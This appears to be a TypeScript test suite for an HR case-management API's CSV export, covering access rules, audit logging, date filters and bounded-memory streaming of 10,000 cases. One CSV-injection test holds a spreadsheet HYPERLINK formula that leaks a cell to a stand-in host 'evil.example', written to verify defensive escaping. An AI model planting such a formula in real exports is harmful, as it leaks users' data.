import { get as httpGet, IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { getHeapSpaceStatistics, setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { buildCase } from '../support/case-builder';
import { caseThroughAppeal } from '../support/exports-fixtures';
import { DEMO, expectProblem, startTestApp, TestApp } from '../support/test-app';

/**
 * The CSV of cases for HR records (issue 5 item 4; api.md "HR and data protection"; domain.md
 * "HR exports": "Large exports stream: memory does not grow with the number of cases"):
 * GET /exports/cases.csv?from=&to=&status= — who may export, the visibility rule, the columns,
 * filters, CSV-injection-safe cells, and 10,000 cases streamed with bounded memory.
 */

/** RFC 4180: rows of cells (quoted cells may hold commas, quotes, CR and LF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') {
        quoted = false;
      } else {
        cell += ch;
      }
    } else if (ch === '"') {
      quoted = true;
    } else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else {
      cell += ch;
    }
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** The export as records keyed by the header. */
function records(text: string): Array<Record<string, string>> {
  const [header, ...rows] = parseCsv(text);
  return rows.map((cells) => Object.fromEntries(header.map((name, i) => [name, cells[i]])));
}

const HEADER =
  'reference,reported_at,status,safeguarding,categories,policy_standards,triage_decision,outcome_sanction,sanction_in_force,appeal_result,closed_at,erased_at';

describe('cases CSV export (§13, HR exports)', () => {
  let t: TestApp;
  let base: string;

  beforeAll(async () => {
    t = await startTestApp();
    await t.app.listen(0, '127.0.0.1');
    base = `http://127.0.0.1:${(t.app.getHttpServer().address() as AddressInfo).port}`;
  });
  afterAll(() => t.close());

  const csv = async (who: string, query = '') => (await t.as(who)).get(`/exports/cases.csv${query}`);

  /** Moves a case's creation time (the export's period is over creation). */
  const createdAt = (caseId: string, at: string) => t.db.query(`UPDATE cases SET created_at = $2 WHERE id = $1`, [caseId, at]);

  describe('who may export', () => {
    it.each([DEMO.hr, DEMO.head])('%s: 200, a dated CSV attachment, not cached', async (who) => {
      const res = await csv(who);
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toMatch(/^attachment; filename="cases-\d{4}-\d{2}-\d{2}\.csv"$/);
      expect(res.headers['cache-control']).toBe('no-store');
      expect(res.text.split('\n')[0]).toBe(HEADER);
    });

    it.each([DEMO.deputy, DEMO.investigator, DEMO.governor, DEMO.admin, DEMO.northAdmin])('%s: 403', async (who) => {
      expectProblem(await csv(who), 403);
    });

    it("another organisation's headteacher gets their own organisation's cases only", async () => {
      const werrington = await caseThroughAppeal(t, { until: 'investigation' });
      const res = await csv(DEMO.northHead);
      expect(res.status).toBe(200);
      expect(res.text).not.toContain(werrington.reference);
      expect((await csv(DEMO.hr)).text).toContain(werrington.reference);
    });

    it('only the cases the caller may see: not one where the headteacher is a witness', async () => {
      const conflicted = await caseThroughAppeal(t, { witnessStaffId: t.ids.staff[DEMO.head], until: 'investigation' });
      expect((await csv(DEMO.head)).text).not.toContain(conflicted.reference);
      expect((await csv(DEMO.hr)).text).toContain(conflicted.reference);
    });

    it('nothing in it tells of a case the caller may not see, nor of withheld content (issue 9): not a case about hr, no evidence or statement', async () => {
      const aboutHr = await caseThroughAppeal(t, { report: { subjectStaffIds: [t.ids.staff[DEMO.hr]] }, until: 'investigation' });
      const witnessed = await caseThroughAppeal(t, { witnessStaffId: t.ids.staff[DEMO.hr], until: 'investigation' });
      const hr = await csv(DEMO.hr);
      expect(hr.status).toBe(200);
      expect(hr.text).not.toContain(aboutHr.reference);
      expect(hr.text).toContain(witnessed.reference);
      expect((await csv(DEMO.head)).text).toContain(aboutHr.reference);
      for (const withheld of [
        witnessed.specialEvidence,
        witnessed.specialSha256,
        witnessed.personalEvidence,
        'Public post criticising a colleague by name.',
        'I accept I named her',
      ])
        expect(hr.text).not.toContain(withheld);
      // the export's own audit event names no case and counts none
      const { rows } = await t.db.query(`SELECT case_id, payload FROM audit_events WHERE action = 'export.cases_csv' ORDER BY seq DESC LIMIT 1`);
      expect(rows[0]).toEqual({ case_id: null, payload: { from: null, to: null, status: null } });
    });

    it('bad input: 400 naming the field', async () => {
      expectProblem(await csv(DEMO.hr, '?from=yesterday'), 400, 'from');
      expectProblem(await csv(DEMO.hr, '?to=2026-13-01T00:00:00Z'), 400, 'to');
      expectProblem(await csv(DEMO.hr, '?from=2026-02-30'), 400, 'from');
      expectProblem(await csv(DEMO.hr, '?from=01/09/2026'), 400, 'from');
      expectProblem(await csv(DEMO.hr, '?to=2026-10-25T10:00:00'), 400, 'to'); // a date-time needs its zone
      expectProblem(await csv(DEMO.hr, '?from=2026-10-26&to=2026-10-25'), 400, 'to');
      expectProblem(await csv(DEMO.hr, '?status=open'), 400, 'status');
      expectProblem(await csv(DEMO.hr, '?status=closed&status=appeal'), 400, 'status');
      expectProblem(await csv(DEMO.hr, '?from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z'), 400, 'to');
      expectProblem(await csv(DEMO.hr, '?from=2026-01-01T00:00:00Z&to=2026-01-01T00:00:00Z'), 400, 'to');
      expectProblem(await csv(DEMO.hr, '?limit=10'), 400, 'limit');
    });

    it('each export is audited with its filters, before it streams', async () => {
      await csv(DEMO.hr, '?from=2026-01-01T00:00:00Z&status=closed');
      const { rows } = await t.db.query(
        `SELECT actor_user_id, actor_role, case_id, payload FROM audit_events WHERE action = 'export.cases_csv' ORDER BY seq DESC LIMIT 1`,
      );
      expect(rows[0]).toEqual({
        actor_user_id: t.ids.users[DEMO.hr],
        actor_role: 'hr',
        case_id: null,
        payload: { from: '2026-01-01T00:00:00Z', to: null, status: 'closed' },
      });
    });
  });

  describe('what a row says', () => {
    it('reference, dates, status, categories and standards, triage, outcome, the sanction in force after the appeal, appeal result', async () => {
      const appealed = await caseThroughAppeal(t);
      const row = records((await csv(DEMO.hr)).text).find((r) => r.reference === appealed.reference);
      expect(row).toEqual({
        reference: appealed.reference,
        reported_at: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/),
        status: 'closed',
        safeguarding: 'no',
        categories: 'copyright; disrepute',
        policy_standards: '7.5',
        triage_decision: 'investigate',
        outcome_sanction: 'final_written_warning',
        sanction_in_force: 'first_written_warning',
        appeal_result: 'varied',
        closed_at: expect.stringMatching(/Z$/),
        erased_at: '',
      });
    });

    it('an erased case keeps its tombstone: what it was about is blank, the outcome and erasedAt remain', async () => {
      const erased = await caseThroughAppeal(t, { appeal: 'upheld' });
      await t.db.query(`UPDATE cases SET retain_until = now() - interval '1 day' WHERE id = $1`, [erased.id]);
      expect((await (await t.as(DEMO.head)).post('/retention/run')).status).toBe(200);
      const row = records((await csv(DEMO.hr)).text).find((r) => r.reference === erased.reference);
      expect(row).toEqual(
        expect.objectContaining({
          safeguarding: '',
          categories: '',
          policy_standards: '',
          outcome_sanction: 'final_written_warning',
          sanction_in_force: 'no_action',
          appeal_result: 'upheld',
        }),
      );
      expect(row!.erased_at).toMatch(/Z$/);
    });
  });

  describe('CSV injection: a cell a spreadsheet would run as a formula starts with a quote', () => {
    it.each([
      ['=', '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'],
      ['+', '+SUM(1,2)'],
      ['-', '-2+3'],
      ['@', '@SUM(A1)'],
      ['TAB', '\t=1+1'],
      ['CR', '\r=1+1'],
    ])('%s', async (_label, reference) => {
      const created = await caseThroughAppeal(t, { until: 'investigation' });
      await t.db.query(`UPDATE cases SET reference = $2 WHERE id = $1`, [created.id, reference]);
      const text = (await csv(DEMO.hr, '?status=investigation')).text;
      const references = records(text).map((r) => r.reference);
      expect(references).toContain(`'${reference}`);
      expect(references).not.toContain(reference);
      // ordinary references are left alone
      expect(references.filter((r) => r.startsWith('SMP-')).length).toBeGreaterThan(0);
    });
  });

  describe('filters', () => {
    it('from (inclusive), to (exclusive) over when the case was reported, and status', async () => {
      const [a, b, c] = [
        await caseThroughAppeal(t, { until: 'investigation' }),
        await caseThroughAppeal(t, { until: 'investigation' }),
        await caseThroughAppeal(t),
      ];
      await createdAt(a.id, '2025-03-01T00:00:00.000Z');
      await createdAt(b.id, '2025-03-02T00:00:00.000Z');
      await createdAt(c.id, '2025-03-03T00:00:00.000Z');
      const refs = async (query: string) => {
        const res = await csv(DEMO.hr, query);
        expect(res.status).toBe(200);
        return records(res.text).map((r) => r.reference);
      };
      expect(await refs('?from=2025-03-01T00:00:00Z&to=2025-03-03T00:00:00Z')).toEqual([a.reference, b.reference]);
      expect(await refs('?from=2025-03-01T00:00:00.001Z&to=2025-03-04T00:00:00Z')).toEqual([b.reference, c.reference]);
      expect(await refs('?from=2025-03-01T00:00:00Z&to=2025-03-04T00:00:00Z&status=closed')).toEqual([c.reference]);
      expect(await refs('?from=2025-03-01T00:00:00Z&to=2025-03-04T00:00:00Z&status=investigation')).toEqual([a.reference, b.reference]);
      expect(await refs('?to=2025-03-02T00:00:00%2B00:00&from=2025-02-28T23:00:00-01:00')).toEqual([a.reference]);
      expect(await refs('?from=2025-03-04T00:00:00Z&to=2025-03-05T00:00:00Z')).toEqual([]);
    });

    it('dates, as an HR officer types them: whole days in Europe/London, `to` included (issue 10 item 3)', async () => {
      expect((await csv(DEMO.hr, '?from=2026-09-01&to=2026-12-31')).status).toBe(200);
      // Reported at each instant (UTC), and the London date it falls on.
      const at: Array<[string, string]> = [
        ['2026-03-28T23:30:00.000Z', '28 March, 23:30 GMT'],
        ['2026-03-29T22:30:00.000Z', '29 March, 23:30 BST (the clocks went forward at 01:00: a 23-hour day)'],
        ['2026-03-29T23:30:00.000Z', '30 March, 00:30 BST'],
        ['2026-10-24T22:30:00.000Z', '24 October, 23:30 BST'],
        ['2026-10-24T23:30:00.000Z', '25 October, 00:30 BST'],
        ['2026-10-25T23:30:00.000Z', '25 October, 23:30 GMT (the clocks went back at 02:00: a 25-hour day)'],
        ['2026-10-26T00:00:00.000Z', '26 October, 00:00 GMT'],
      ];
      const ref: Record<string, string> = {};
      for (const [instant] of at) {
        const built = await buildCase(t, { to: 'reported' });
        await createdAt(built.caseId, instant);
        ref[instant] = built.reference;
      }
      const refs = async (query: string) => {
        const res = await csv(DEMO.hr, query);
        expect(res.status).toBe(200);
        return records(res.text).map((r) => r.reference);
      };
      const of = (...instants: string[]) => instants.map((i) => ref[i]);
      expect(await refs('?from=2026-03-29&to=2026-03-29')).toEqual(of('2026-03-29T22:30:00.000Z'));
      expect(await refs('?from=2026-03-28&to=2026-03-30')).toEqual(of('2026-03-28T23:30:00.000Z', '2026-03-29T22:30:00.000Z', '2026-03-29T23:30:00.000Z'));
      expect(await refs('?from=2026-10-24&to=2026-10-24')).toEqual(of('2026-10-24T22:30:00.000Z'));
      expect(await refs('?from=2026-10-25&to=2026-10-25')).toEqual(of('2026-10-24T23:30:00.000Z', '2026-10-25T23:30:00.000Z'));
      expect(await refs('?from=2026-10-26&to=2026-10-31')).toEqual(of('2026-10-26T00:00:00.000Z'));
      // `to` alone, a date: up to the end of that day; `from` alone: from its start
      expect(await refs('?from=2026-10-01&to=2026-10-24')).toEqual(of('2026-10-24T22:30:00.000Z'));
      expect(await refs('?from=2026-10-25&to=2026-11-01')).toEqual(of('2026-10-24T23:30:00.000Z', '2026-10-25T23:30:00.000Z', '2026-10-26T00:00:00.000Z'));
      // a date and a date-time together; the date-time `to` is excluded
      expect(await refs('?from=2026-10-25&to=2026-10-25T23:30:00Z')).toEqual(of('2026-10-24T23:30:00.000Z'));
      expect(await refs('?from=2026-10-25T23:30:00%2B00:00&to=2026-10-25')).toEqual(of('2026-10-25T23:30:00.000Z'));
      // the audit event keeps the period as it was asked for
      const { rows } = await t.db.query(`SELECT payload FROM audit_events WHERE action = 'export.cases_csv' ORDER BY seq DESC LIMIT 1`);
      expect(rows[0].payload).toEqual({ from: '2026-10-25T23:30:00+00:00', to: '2026-10-25', status: null });
    });
  });

  describe('10,000 cases, streamed', () => {
    const FROM = '2019-01-01T00:00:00Z';
    const TO = '2020-01-01T00:00:00Z';
    const CASES = 10_000;

    beforeAll(async () => {
      // One statement: 10,000 cases in 2019, each with five reports (one per App.A category); a third closed with an outcome.
      await t.db.query(
        `WITH org AS (SELECT id FROM organisations WHERE name LIKE 'Werrington%'),
              deputy AS (SELECT id FROM users WHERE email = $1),
              head AS (SELECT id FROM users WHERE email = $2),
              made AS (
                INSERT INTO cases (organisation_id, reference, status, safeguarding, triage_decision, triaged_at, closed_at, created_at, updated_at)
                SELECT org.id, 'BULK-2019-' || lpad(n::text, 5, '0'),
                       (CASE WHEN n % 3 = 0 THEN 'closed' WHEN n % 3 = 1 THEN 'investigation' ELSE 'reported' END)::case_status,
                       n % 7 = 0,
                       (CASE WHEN n % 3 = 2 THEN NULL ELSE 'investigate' END)::triage_decision,
                       CASE WHEN n % 3 = 2 THEN NULL ELSE timestamptz '2019-01-01' + n * interval '30 minutes' + interval '1 day' END,
                       CASE WHEN n % 3 = 0 THEN timestamptz '2019-01-01' + n * interval '30 minutes' + interval '40 days' END,
                       timestamptz '2019-01-01' + n * interval '30 minutes', now()
                FROM org, generate_series(1, ${CASES}) AS n
                RETURNING id, organisation_id, created_at, status),
              reported AS (
                INSERT INTO reports (organisation_id, case_id, platform, observed_at, description, category, policy_standards, involves_pupils, logged_by_user_id, created_at)
                SELECT organisation_id, id, 'facebook', created_at, 'bulk', category, ARRAY['7.1', '7.2', '7.3', '7.4', '7.5', '7.6', '7.7', '7.8', '8'],
                       false, (SELECT id FROM deputy), created_at
                FROM made CROSS JOIN unnest(enum_range(NULL::misuse_category)) AS category RETURNING 1)
         INSERT INTO outcomes (organisation_id, case_id, recorded_by_user_id, sanction, gross_misconduct, rationale, decided_at, warning_expires_at, appeal_deadline, decided_by_role)
         SELECT organisation_id, id, (SELECT id FROM head), 'first_written_warning', false, 'bulk', created_at + interval '30 days',
                created_at + interval '400 days', created_at + interval '44 days', 'headteacher'
         FROM made WHERE status = 'closed'`,
        [DEMO.deputy, DEMO.head],
      );
    });

    /** Streams the export over a real socket, calling `onChunk` for each chunk; resolves with the response and the body's size. */
    function stream(token: string, query: string, onChunk: (chunk: Buffer, res: IncomingMessage) => void): Promise<{ res: IncomingMessage; bytes: number }> {
      return new Promise((resolve, reject) => {
        const request = httpGet(`${base}/exports/cases.csv${query}`, { headers: { authorization: `Bearer ${token}` } }, (res) => {
          let bytes = 0;
          res.on('data', (chunk: Buffer) => {
            bytes += chunk.length;
            onChunk(chunk, res);
          });
          res.on('end', () => resolve({ res, bytes }));
          res.on('error', reject);
        });
        request.on('error', reject);
      });
    }

    /** Counts CSV records (line ends outside quotes) across chunk boundaries. */
    function recordCounter() {
      let quoted = false;
      let records = 0;
      return {
        feed(chunk: Buffer) {
          for (const byte of chunk) {
            if (byte === 0x22) quoted = !quoted;
            else if (byte === 0x0a && !quoted) records++;
          }
        },
        get records() {
          return records;
        },
      };
    }

    it('every case, one row each, with memory that does not grow with the number of rows', async () => {
      setFlagsFromString('--expose-gc');
      const gc = runInNewContext('gc') as () => void;
      const token = await t.token(DEMO.hr);
      // Warm up the route (code, pools) so that the measurement sees only the export.
      await stream(token, `?from=${FROM}&to=${TO}&status=closed`, () => undefined);

      // The JS heap outside the young generation. Short-lived objects (a stream's chunks) die
      // young; whatever lives through several collections — every row of a buffered export, or
      // the text it builds — is promoted and stays counted here until the next full collection,
      // so even what a buffering implementation held only for a moment shows.
      const heapBeyondYoung = () =>
        process.memoryUsage().heapUsed - getHeapSpaceStatistics().find((space) => space.space_name === 'new_space')!.space_used_size;
      /** One streamed export, and the most the heap grew beyond the young generation while it ran. */
      const measured = async () => {
        gc();
        const baseline = heapBeyondYoung();
        let growth = 0;
        const sample = () => (growth = Math.max(growth, heapBeyondYoung() - baseline));
        const sampler = setInterval(sample, 5);
        const counter = recordCounter();
        let first = '';
        try {
          const result = await stream(token, `?from=${FROM}&to=${TO}`, (chunk) => {
            if (first.length < 1000) first += chunk.toString('utf8', 0, Math.min(chunk.length, 1000));
            counter.feed(chunk);
            sample();
          });
          sample();
          return { result, growth, first, records: counter.records };
        } finally {
          clearInterval(sampler);
        }
      };
      const { result, growth: firstGrowth, first, records } = await measured();
      expect(result.res.statusCode).toBe(200);
      expect(result.res.headers['content-type']).toBe('text/csv; charset=utf-8');
      const [header, firstRow] = first.split('\n');
      expect(header).toBe(HEADER);
      expect(firstRow).toBe(
        'BULK-2019-00001,2019-01-01T00:30:00.000Z,investigation,no,' +
          'confidentiality; copyright; discrimination_bullying_harassment; disrepute; images_of_school_or_pupils,' +
          '7.1; 7.2; 7.3; 7.4; 7.5; 7.6; 7.7; 7.8; 8,investigate,,,,,',
      );
      expect(records).toBe(CASES + 1); // the header and one row per case
      // A buffered export holds at least the whole CSV text at once, and an array of 10,000 rows
      // several times that; the stream holds a few chunks. (Measured on this 2.3 MB export: the
      // stream ~0.35 MB; the same COPY collected into a string first ~2.6 MB; rows in an array ~7.8 MB.)
      expect(result.bytes).toBeGreaterThan(2_000_000);
      // A stream's chunks that live through a few young collections on a loaded machine (the CI's
      // other worker runs a browser) are promoted and counted until the next full collection: the
      // least of up to three exports is taken. A buffering implementation exceeds the bound every time.
      let growth = firstGrowth;
      for (let again = 0; again < 2 && growth >= result.bytes / 2; again++) growth = Math.min(growth, (await measured()).growth);
      expect(growth).toBeLessThan(result.bytes / 2);
    });

    it('gives its connection back to the pool each time, also when the client goes away mid-stream', async () => {
      const token = await t.token(DEMO.hr);
      // The app's pool holds 10 connections: a leaked one per export would exhaust it.
      for (let i = 0; i < 12; i++) {
        await new Promise<void>((resolve, reject) => {
          const request = httpGet(`${base}/exports/cases.csv?from=${FROM}&to=${TO}`, { headers: { authorization: `Bearer ${token}` } }, (res) => {
            res.once('data', () => {
              request.destroy();
              resolve();
            });
            res.on('error', () => undefined);
          });
          request.on('error', (error) => (request.destroyed ? undefined : reject(error)));
        });
      }
      for (let i = 0; i < 12; i++) expect((await csv(DEMO.hr, '?from=2019-01-01T00:00:00Z&to=2019-01-02T00:00:00Z')).status).toBe(200);
      const full = await stream(token, `?from=${FROM}&to=${TO}&status=closed`, () => undefined);
      expect(full.res.statusCode).toBe(200);
      // No COPY is left running on the server once the clients have gone.
      for (let attempt = 0; ; attempt++) {
        const { rows } = await t.db.query(
          `SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND state = 'active' AND query LIKE 'COPY (%'`,
        );
        if (rows[0].n === 0) break;
        if (attempt > 50) throw new Error(`${rows[0].n} COPY statements still running`);
        await new Promise((r) => setTimeout(r, 100));
      }
    });
  });

  describe('afterwards', () => {
    it('the audit chain still verifies', async () => {
      const res = await (await t.as(DEMO.head)).get('/audit/verify');
      expect(res.status).toBe(200);
      expect(res.body).toEqual(expect.objectContaining({ valid: true, firstBrokenAt: null }));
    });
  });
});
